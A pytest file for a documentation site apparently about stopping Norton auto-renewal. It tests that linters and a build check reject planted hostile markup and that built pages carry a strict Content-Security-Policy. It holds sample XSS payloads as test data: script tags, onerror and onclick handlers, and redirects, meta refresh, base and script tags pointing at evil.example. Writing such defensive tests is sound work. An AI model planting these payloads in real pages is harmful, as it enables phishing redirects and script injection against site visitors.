"""Issue 19, the site: a pull request cannot put code into the built HTML.

Planted hostile front matter, attribute lists and raw HTML each fail the page lint with one
`file:line` line (scripts/lint/markup.py through scripts/lint/site_policy.py, which `make lint`
runs) and stop the build; planted built HTML is refused by the built-page check; the real build of
both engines passes it and carries a Content-Security-Policy that lists only 'self' and the hashes of
the page's own inline scripts. (The Zensical labels go in as plain text only: tests/search/test_labels.py.)
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from scripts.build_site import BuildError, check_pages, secure_site
from scripts.lint import markup
from scripts.lint.site_policy import check_text, load_policy

ROOT = Path(__file__).resolve().parent.parent
HEAD = ("---\ntitle: 見本\ndescription: 見本のページです。\nlast_verified: 2026-11-27\n"
        "sources:\n  - https://www.nortonstore.jp/support/autorenewal/flow/\n---\n\n# 見本 { #top }\n\n")
BODY_LINE = HEAD.count("\n") + 1  # the first body line after HEAD


@pytest.fixture(scope="module")
def policy():
    return load_policy()


def problems(text: str, policy) -> list[str]:
    return [str(p) for p in check_text(text, "docs/page.md", policy)]


def test_the_real_pages_pass(policy):
    """Every page of docs/ passes the markup rules (so each planted case below is what fails)."""
    for page in sorted((ROOT / "docs").rglob("*.md")):
        found = [p for p in problems(page.read_text(encoding="utf-8"), policy)
                 if any(w in p for w in ("front matter", "attribute list", "raw HTML", "<div", "<span", "plain name"))]
        assert not found, found


# (front matter line to add or replace, line it is on, words of the message)
HOSTILE_FRONT_MATTER = {
    "description breaks out of content=": ("description: '止め方。\"><script>location=1</script><x y=\"'", 3, ["`description`", '\'"\'']),
    "title holds an img onerror": ("title: 止め方<img src=x onerror=alert(1)>", 2, ["`title`", "'<'"]),
    "title holds an ampersand entity": ("title: 止め方&#60;b&#62;", 2, ["`title`", "'&'"]),
    "unknown key (template)": ("template: evil.html", 2, ["key `template`"]),
    "title that is not text": ("title: [a, b]", 2, ["`title` must be plain text"]),
    "hide with an unknown name": ("hide: [navigation, script]", 2, ["`hide`", "'script'"]),
    "content_lang other than en": ("content_lang: 'en\" onload=\"x'", 2, ["`content_lang`"]),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_FRONT_MATTER))
def test_hostile_front_matter_fails_with_one_line(policy, case):
    line_text, line, words = HOSTILE_FRONT_MATTER[case]
    key = line_text.split(":")[0]
    lines = HEAD.split("\n")
    if any(row.startswith(key + ":") for row in lines):
        lines = [line_text if row.startswith(key + ":") else row for row in lines]
    else:
        lines.insert(1, line_text)
    found = [p for p in problems("\n".join(lines), policy) if p.startswith(f"docs/page.md:{line}: ")]
    assert len(found) == 1, problems("\n".join(lines), policy)
    assert all(w in found[0] for w in words), found[0]


def test_hostile_source_entry_fails(policy):
    text = HEAD.replace("  - https://www.nortonstore.jp/support/autorenewal/flow/",
                        "  - {url: 'https://www.nortonstore.jp/support/autorenewal/flow/', title: '<b>x</b>', onload: 1}")
    found = problems(text, policy)
    assert any("unknown keys ['onload']" in p for p in found), found
    assert any("`sources` title must be plain text" in p for p in found), found


# (body line, words of the message) — each on the first body line
HOSTILE_BODY = {
    "attr list onclick on an official button": (
        "[開く](https://my.norton.com/){ .md-button .official-link onclick=\"location.replace('https://my.norton.com.evil.example/')\" }",
        ["attribute list sets `onclick`"]),
    "attr list with a bare on* word": ("## 見出し { #top2 onmouseover }", ["`onmouseover`"]),
    "attr list style": ("[開く](https://my.norton.com/){ style=\"position:fixed;inset:0\" }", ["`style`"]),
    "attr list title": ("[開く](https://my.norton.com/){ title=x }", ["`title`", "only .classes and #ids"]),
    "attr list hiding a } in a value": ("[開く](https://my.norton.com/){ .a title=\"}\" onclick=x }", ["`onclick`"]),
    "attr list theme id": ("[開く](https://my.norton.com/){ #__config }", ["id '__config'"]),
    "span onmouseover": ("<span onmouseover=\"location='https://evil.example'\">x</span>", ["<span onmouseover=…>"]),
    "div with any attribute": ("<div class=\"routes\" data-x=\"1\" markdown>", ["<div data-x=…> is not allowed"]),
    "div style": ("<div class=\"routes\" style=\"display:none\" markdown>", ["<div style=…>"]),
    "img": ("<img src=\"https://my.norton.com/x.png\">", ["raw HTML <img>"]),
    "srcset": ("<span srcset=\"x 1x\">x</span>", ["<span srcset=…>"]),
    "ping": ("<span ping=\"https://evil.example\">x</span>", ["<span ping=…>"]),
    "formaction": ("<span formaction=\"https://evil.example\">x</span>", ["<span formaction=…>"]),
    "script": ("<script>location='https://evil.example'</script>", ["raw HTML <script>"]),
    "backticks inside attribute values": ("<div title=\"`\" onclick=\"alert(1)\" x=\"`\" markdown>", ["<div onclick=…>"]),
    "slash before the attribute": ("<span/onclick=\"alert(1)\">x</span>", ["<span onclick=…>"]),
    "tag across lines": ("<span class=\"addr\"\n  onclick=\"x()\">x</span>", ["<span onclick=…>"]),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_BODY))
def test_hostile_markup_fails_with_file_and_line(policy, case):
    body, words = HOSTILE_BODY[case]
    found = [p for p in problems(HEAD + body + "\n", policy) if p.startswith(f"docs/page.md:{BODY_LINE}: ")]
    assert found, problems(HEAD + body + "\n", policy)
    assert any(all(w in p for w in words) for p in found), found


def test_code_and_comments_are_not_markup(policy):
    body = ("`<span onclick=x>` と `{ onclick=x }` はコードです。\n\n```html\n<img src=x onerror=alert(1)>\n```\n\n"
            "<!-- <script>x</script> -->\n\n[開く](https://my.norton.com/){ .md-button #open-chat }\n\n"
            "[a](https://my.norton.com/){ .a } online [b](https://my.norton.com/){ .b }\n")
    assert problems(HEAD + body, policy) == []


def test_site_policy_cli_prints_one_file_line_per_mistake(tmp_path):
    """The command `make lint` runs (python -m scripts.lint.site_policy) on a planted page."""
    page = tmp_path / "page.md"
    page.write_text(HEAD.replace("title: 見本", "title: 見本<img src=x onerror=alert(1)>")
                    + "[開く](https://my.norton.com/){ .md-button onclick=\"x()\" }\n\n<span onmouseover=\"x()\">x</span>\n",
                    encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "scripts.lint.site_policy", str(page)], cwd=ROOT,
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1
    lines = proc.stdout.splitlines()
    assert [ln.split(": ")[0].rsplit(":", 1)[1] for ln in lines] == ["2", str(BODY_LINE), str(BODY_LINE + 2)], lines


def test_the_build_refuses_hostile_pages(tmp_path):
    """Zensical runs no MkDocs hooks: scripts/build_site.py itself stops before either engine builds."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "ok.md").write_text(HEAD + "本文です。\n", encoding="utf-8")
    check_pages(docs)
    (docs / "bad.md").write_text(HEAD.replace("description: 見本のページです。", "description: '\"><script>x</script>'"),
                                 encoding="utf-8")
    with pytest.raises(BuildError, match=r"docs/bad\.md:3: front matter `description`"):
        check_pages(docs)


# --- built pages -----------------------------------------------------------------------------------

PLANTED_HTML = {
    "event handler": ('<a href="https://my.norton.com/" onclick="location=1">x</a>', "inline event handler"),
    "onerror": ('<img src="x" onerror="location=1">', "inline event handler"),
    "base": ('<base href="https://evil.example/">', "<base>"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "http-equiv='refresh'"),
    "foreign script src": ('<script src="https://evil.example/x.js"></script>', "is not the engine's bundle"),
    "script src with a dot path": ('<script src="../../x.js"></script>', "is not the engine's bundle"),
    "inline script": ("<script>location='https://evil.example/'</script>", "did not write"),
    "ping": ('<a href="https://my.norton.com/" ping="https://evil.example/">x</a>', "ping"),
}


@pytest.mark.parametrize("case", sorted(PLANTED_HTML))
def test_built_page_check_refuses_planted_html(built_site, case):
    html_bit, words = PLANTED_HTML[case]
    page = (built_site / "stop" / "store" / "index.html").read_text(encoding="utf-8")
    assert markup.built_page_problems(page) == []
    planted = page.replace("</article>", html_bit + "</article>", 1)
    found = markup.built_page_problems(planted)
    assert len(found) == 1 and words in found[0], found


def test_a_planted_page_stops_the_build(built_site, tmp_path):
    site = tmp_path / "site"
    shutil.copytree(built_site, site)
    page = site / "faq" / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace("</article>", '<span onclick="x()">x</span></article>'),
                    encoding="utf-8")
    with pytest.raises(BuildError, match=r"faq/index\.html:\d+: <span onclick=…>"):
        secure_site(site)


@pytest.mark.parametrize("engine", ["mkdocs", "zensical"])
def test_every_built_page_has_a_strict_csp(site_builds, engine):
    """Both engines: the check passes, and each page's CSP is the first thing after <meta charset>,
    allows scripts only from 'self' and by hash, and hashes exactly the page's inline scripts."""
    site = site_builds(engine)
    assert markup.site_problems(site) == []
    pages = sorted(site.rglob("*.html"))
    assert len(pages) >= 10
    for page in pages:
        html = page.read_text(encoding="utf-8")
        metas = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
        assert len(metas) == 1, page
        assert html.index("Content-Security-Policy") < html.index("<script"), page
        directives = dict(d.strip().split(" ", 1) for d in metas[0].split(";"))
        script_src = directives["script-src"].split()
        assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src
        assert directives["object-src"] == "'none'" and directives["base-uri"] == "'none'"
        hashes = {f"'{markup.csp_hash(text)}'" for _, text in markup.inline_scripts(html)}
        assert set(script_src) == {"'self'"} | hashes, page
        assert len(hashes) >= 7, page
